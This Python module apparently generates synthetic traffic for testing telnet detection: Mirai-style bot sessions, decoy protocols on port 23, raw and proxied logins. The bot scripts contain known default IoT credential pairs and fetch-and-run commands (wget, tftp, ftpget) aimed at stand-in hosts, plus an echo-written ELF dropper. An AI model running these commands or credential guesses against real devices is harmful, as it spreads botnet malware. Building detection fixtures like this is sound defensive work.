"""Bots that spread over telnet, and what is no telnet on port 23, by script."""

from __future__ import annotations

from dialogue import DO, ECHO, NAWS, SGA, TTYPE, WILL, WONT, client_hello, options, sealed
from telnet_talk import Session, naws, story
from traffic import ORIG, RESP, Traffic

# -- Mirai and its kin

FIVE = ("enable", "system", "shell", "sh")


def swap(traffic: Traffic, n: int, port: int = 23) -> Session:
    """A bot settles options: the window as it always is, every other verb turned round."""
    t = Session(traffic, n, port)
    t.s(options((DO, ECHO), (DO, NAWS), (WILL, ECHO), (WILL, SGA)))
    t.c(options((WONT, ECHO)), 1)
    t.c(options((WILL, NAWS)) + naws(80, 24), 1)
    t.c(options((DO, ECHO), (DO, SGA)), 1)
    t.s("\r\n(none) login: ")
    return t


def bot_line(t: Session, text: str, answer: str = "") -> None:
    """A line in one segment, echoed whole, no time to think."""
    t.c(text.encode() + b"\r\n", 3)
    t.s(f"{text}\r\n{answer}", 8)


def bot_secret(t: Session, text: str, answer: str) -> None:
    """A password in one segment, not echoed."""
    t.c(text.encode() + b"\r\n", 3)
    t.s("\r\n" + answer, 40)


def bot_shell(t: Session, word: str) -> None:
    """The five words that look for a shell, and the applet that does not exist."""
    for text in FIVE:
        bot_line(t, text, "# " if text == "sh" else f"-sh: {text}: not found\r\n# ")
    bot_line(t, f"/bin/busybox {word}", f"{word}: applet not found\r\n# ")


@story("mirai")
def mirai_dropper(traffic: Traffic, n: int) -> None:
    """A default pair works; what follows is fetched by wget and started."""
    t = swap(traffic, n)
    bot_line(t, "root", "Password: ")
    bot_secret(t, "vizxv", "BusyBox v1.1.2 (2012.08.12) Built-in shell (ash)\r\n# ")
    bot_shell(t, "ECCHI")
    bot_line(t, "/bin/busybox ps; /bin/busybox ECCHI", "  PID Uid\r\nECCHI: applet not found\r\n# ")
    bot_line(t, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
             "tmpfs /var tmpfs rw 0 0\r\nECCHI: applet not found\r\n# ")  # fmt: skip
    bot_line(t, "cd /var; wget http://203.0.113.99:8080/bins/quill.arm7 -O - > dvrw; chmod 777 "
             "dvrw; ./dvrw selfrep", "Connecting to 203.0.113.99:8080\r\nlistening tun0\r\n# ")
    t.reset(ORIG)


def refused(traffic: Traffic, n: int, user: str, password: str) -> None:
    """One pair of the list, refused."""
    t = swap(traffic, n)
    bot_line(t, user, "Password: ")
    bot_secret(t, password, "Login incorrect\r\n(none) login: ")
    t.reset(ORIG)


@story("mirai")
def mirai_refused_1(traffic: Traffic, n: int) -> None:
    """A pair of the list, refused."""
    refused(traffic, n, "root", "juantech")


@story("mirai")
def mirai_refused_2(traffic: Traffic, n: int) -> None:
    """A pair of the list with an empty password, refused."""
    refused(traffic, n, "root", "")


@story("mirai")
def mirai_refused_3(traffic: Traffic, n: int) -> None:
    """Another pair of the list, refused."""
    refused(traffic, n, "support", "support")


@story("mirai")
def kin_tftp(traffic: Traffic, n: int) -> None:
    """A later kind on port 2323: another word, tftp and ftpget, clears its traces."""
    t = swap(traffic, n, 2323)
    bot_line(t, "admin", "Password: ")
    bot_secret(t, "7ujMko0admin", "\r\n~ # ")
    bot_shell(t, "KORVAX")
    bot_line(t, ">/tmp/.q && cd /tmp; rm -rf .q", "~ # ")
    bot_line(t, "tftp -g -l dlr -r dlr.mpsl 203.0.113.98; /bin/busybox KORVAX",
             "KORVAX: applet not found\r\n~ # ")  # fmt: skip
    bot_line(t, "ftpget -u anonymous 203.0.113.98 dlr dlr.mpsl; chmod 777 dlr; ./dlr", "~ # ")
    t.end(ORIG)


@story("mirai")
def kin_echo(traffic: Traffic, n: int) -> None:
    """No login is asked for; the program comes as octets that echo writes."""
    t = Session(traffic, n)
    t.s(options((DO, ECHO), (DO, NAWS), (WILL, ECHO), (WILL, SGA)) + b"\r\n# ")
    t.c(options((WONT, ECHO), (WILL, NAWS)) + naws(80, 24) + options((DO, ECHO), (DO, SGA)), 1)
    bot_shell(t, "BRASSO")
    for part in ("\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x61", "\\x00\\x28\\x00\\x01\\x00\\x00"):
        bot_line(t, f'echo -ne "{part}" >> upnp; /bin/busybox BRASSO',
                 "BRASSO: applet not found\r\n# ")  # fmt: skip
    bot_line(t, "chmod 777 upnp; ./upnp; rm -rf upnp", "# ")
    t.end(ORIG)


@story("mirai")
def bot_in_one_segment(traffic: Traffic, n: int) -> None:
    """Name, password and all lines in one segment, before anything is asked."""
    t = Session(traffic, n)
    t.c("root\r\nTopaz-Vole-1\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox DELVE\r\n", 5)
    t.s(options((DO, ECHO), (DO, NAWS), (WILL, ECHO), (WILL, SGA)) + b"\r\nhub login: ")
    t.s("root\r\nPassword: ", 10)
    t.s("\r\n", 3)
    t.s("# enable\r\n-sh: enable: not found\r\n# system\r\n-sh: system: not found\r\n"
        "# shell\r\n-sh: shell: not found\r\n# sh\r\n# /bin/busybox DELVE\r\n"
        "DELVE: applet not found\r\n# ", 60)  # fmt: skip
    t.end(ORIG)


@story("mirai")
def person_with_busybox(traffic: Traffic, n: int) -> None:
    """A person who uses busybox and wget by hand is no bot."""
    t = Session(traffic, n)
    t.busybox()
    t.s("\r\nhub login: ")
    t.log_in("tech-hub", "Topaz-Vole-2", "\r\n\r\nBusyBox v1.30.1 built-in shell (ash)\r\n\r\n# ")
    t.line("/bin/busybox df", "Filesystem 1K-blocks\r\n/dev/root 7168\r\n# ")
    t.line("wget http://192.168.40.2/fw/hub-1.4.bin", "hub-1.4.bin 100% |****| 4096k\r\n# ")
    t.line("exit")
    t.end()


# -- other protocols on port 23


@story("decoys")
def http(traffic: Traffic, n: int) -> None:
    """A web server whose page says login and password."""
    t = Session(traffic, n)
    t.c("GET /login HTTP/1.1\r\nHost: 192.168.40.10:23\r\nAuthorization: Basic aDpv\r\n\r\n")
    body = "<form>login: <input>\r\nPassword: <input>\r\n</form>\r\nLogin incorrect\r\n# "
    t.s(f"HTTP/1.1 401 Unauthorized\r\nContent-Length: {len(body)}\r\n\r\n{body}")
    t.end()


@story("decoys")
def ssh(traffic: Traffic, n: int) -> None:
    """An SSH server: versions, then binary."""
    t = Session(traffic, n)
    t.s("SSH-2.0-OpenSSH_9.2p1\r\n")
    t.c("SSH-2.0-OpenSSH_9.6\r\n")
    for side in (ORIG, RESP):
        t.talk.say(side, (700).to_bytes(4, "big") + b"\x06\x14" + traffic.random.randbytes(698))
    t.end(ORIG)


@story("decoys")
def chargen(traffic: Traffic, n: int) -> None:
    """Rows of all characters (RFC 864)."""
    t = Session(traffic, n)
    ring = "".join(map(chr, range(32, 127)))
    for row in range(40):
        t.s(((ring[row:] + ring)[:72] + "\r\n"), 5)
    t.end(ORIG)


@story("decoys")
def console_prints(traffic: Traffic, n: int) -> None:
    """A console that prints its log and takes nothing; words of logins are in the log."""
    t = Session(traffic, n)
    for i in range(12):
        t.s(f"[{i:05}] auth: login: user unknown, Password: rejected\r\n"
            f"[{i:05}] # of errors: 3\r\n", 400)  # fmt: skip
    t.end()


@story("decoys")
def binary(traffic: Traffic, n: int) -> None:
    """A binary protocol in which two commands of telnet occur by chance."""
    t = Session(traffic, n)
    t.c(b"\x04\x00\x00\x10\x00\x00\x00\x01" + b"\xff\xfb\x01\xff\xfd\x03" + b"\x00\x80")
    t.s(b"\x04\x06\x00\x20\x00\x00\x00\x01" + b"\x00\xff\xfd\x18" + bytes(range(20)))
    for _ in range(4):
        t.c(b"\x04\x0a\x00\x60" + traffic.random.randbytes(92))
        t.s(b"\x04\x0d\x00\x40" + traffic.random.randbytes(60))
    t.end(ORIG)


@story("decoys")
def tls(traffic: Traffic, n: int) -> None:
    """TLS from the first octet, on port 23."""
    t = Session(traffic, n)
    t.talk.say(ORIG, client_hello(t.talk))
    t.talk.say(RESP, sealed(t.talk, 900))
    t.talk.say(ORIG, sealed(t.talk, 120))
    t.end(ORIG)


@story("decoys")
def ftp(traffic: Traffic, n: int) -> None:
    """A login on an FTP server is none of telnet's."""
    t = Session(traffic, n)
    t.s("220 vault FTP server ready.\r\n")
    t.whole("USER obrandt", "331 Password required for obrandt.\r\n")
    t.whole("PASS Onyx-Plover-1", "530 Login incorrect.\r\n")
    t.whole("QUIT", "221 Goodbye.\r\n")
    t.end()


@story("decoys")
def smtp(traffic: Traffic, n: int) -> None:
    """A mail server."""
    t = Session(traffic, n)
    t.s("220 mail.example.net ESMTP\r\n")
    t.whole("EHLO desk-4", "250-mail.example.net\r\n250 AUTH LOGIN\r\n")
    t.whole("AUTH LOGIN", "334 VXNlcm5hbWU6\r\n")
    t.whole("b2JyYW5kdA==", "334 UGFzc3dvcmQ6\r\n")
    t.whole("T255eC1QbG92ZXItMg==", "535 authentication failed\r\n")
    t.end(ORIG)


@story("decoys")
def rfb(traffic: Traffic, n: int) -> None:
    """A remote desktop: versions, kinds of security, a challenge."""
    t = Session(traffic, n)
    t.s("RFB 003.008\n")
    t.c("RFB 003.008\n")
    t.s(b"\x02\x01\x02")
    t.c(b"\x02")
    t.s(traffic.random.randbytes(16))
    t.c(traffic.random.randbytes(16))
    t.s(b"\x00\x00\x00\x01\x00\x00\x00\x16Authentication failure")
    t.end()


@story("decoys")
def rdp(traffic: Traffic, n: int) -> None:
    """A remote desktop of Windows is asked for and confirmed."""
    t = Session(traffic, n)
    t.c(b"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=hello\r\n"
        b"\x01\x00\x08\x00\x03\x00\x00\x00")  # fmt: skip
    t.s(b"\x03\x00\x00\x13\x0e\xd0\x00\x00\x12\x34\x00\x02\x1f\x08\x00\x02\x00\x00\x00")
    t.end(ORIG)


# -- a login without any option, on ports where it is looked for and where not


def raw_login(t: Session, password: str) -> None:
    """A program on a bare socket: text and nothing else."""
    t.s("Sorting line 2\nlogin: ")
    t.whole("belt", "password: ", b"\n")
    t.whole(password, "\nwelcome to line 2\nbelt$ ", b"\n")
    t.whole("speed 40", "ok\nbelt$ ", b"\n")
    t.whole("quit", "bye\n", b"\n")
    t.end()


@story("no_options")
def raw_23(traffic: Traffic, n: int) -> None:
    """On port 23."""
    raw_login(Session(traffic, n), "Marble~Stoat~1")


@story("no_options")
def raw_2323(traffic: Traffic, n: int) -> None:
    """On port 2323."""
    raw_login(Session(traffic, n, 2323), "Marble~Stoat~2")


@story("no_options")
def raw_elsewhere(traffic: Traffic, n: int) -> None:
    """On port 4001, where no one looks for it: the text proves no telnet."""
    raw_login(Session(traffic, n, 4001), "Marble~Stoat~3")


@story("no_options")
def telnet_elsewhere(traffic: Traffic, n: int) -> None:
    """Telnet on port 4002, by its negotiation."""
    t = Session(traffic, n, 4002)
    t.linux()
    t.s("\r\nattic login: ")
    t.log_in("belt", "Marble~Stoat~4", "Last login: Thu Jan  1 09:00\r\nbelt@attic:~$ ")
    t.line("df -h", "/dev/sda1 40G\r\nbelt@attic:~$ ")
    t.line("exit", "logout\r\n")
    t.end()


# -- telnet behind the handshake of a proxy


def proxied_login(t: Session, password: str) -> None:
    """What comes once the proxy is through."""
    t.s(options((WILL, ECHO), (WILL, SGA), (DO, TTYPE), (DO, NAWS)))
    t.c(options((DO, ECHO), (DO, SGA), (WONT, TTYPE), (WILL, NAWS)) + naws(100, 30), 2)
    t.s("\r\nannex login: ")
    t.log_in("courier", password, "Last login: Thu Jan  1 09:00\r\ncourier@annex:~$ ")
    t.line("w", " 03:04:15 up 2 days\r\ncourier@annex:~$ ")
    t.end(ORIG)


@story("proxied")
def socks5(traffic: Traffic, n: int) -> None:
    """SOCKS5 without authentication (RFC 1928) to 10.99.0.7:23."""
    t = Session(traffic, n, 1080)
    t.c(b"\x05\x01\x00")
    t.s(b"\x05\x00")
    t.c(b"\x05\x01\x00\x01\x0a\x63\x00\x07\x00\x17")
    t.s(b"\x05\x00\x00\x01\xc0\xa8\x28\x0a\x9c\x40")
    proxied_login(t, "Walnut+Ibis+1")


@story("proxied")
def http_connect(traffic: Traffic, n: int) -> None:
    """HTTP CONNECT to annex.example.net:23."""
    t = Session(traffic, n, 3128)
    t.c("CONNECT annex.example.net:23 HTTP/1.1\r\nHost: annex.example.net:23\r\n\r\n")
    t.s("HTTP/1.1 200 Connection established\r\n\r\n")
    proxied_login(t, "Walnut+Ibis+2")


@story("proxied")
def proxy_v1(traffic: Traffic, n: int) -> None:
    """A PROXY header of version 1 in front of what the client sends."""
    t = Session(traffic, n)
    t.c("PROXY TCP4 203.0.113.5 10.99.0.7 40000 23\r\n")
    proxied_login(t, "Walnut+Ibis+3")


@story("proxied")
def proxy_v2(traffic: Traffic, n: int) -> None:
    """A PROXY header of version 2 in front of what the client sends."""
    t = Session(traffic, n)
    ends = b"\xcb\x00\x71\x05\x0a\x63\x00\x07\x9c\x40\x00\x17"
    t.c(b"\r\n\r\n\0\r\nQUIT\n\x21\x11" + len(ends).to_bytes(2, "big") + ends)
    proxied_login(t, "Walnut+Ibis+4")
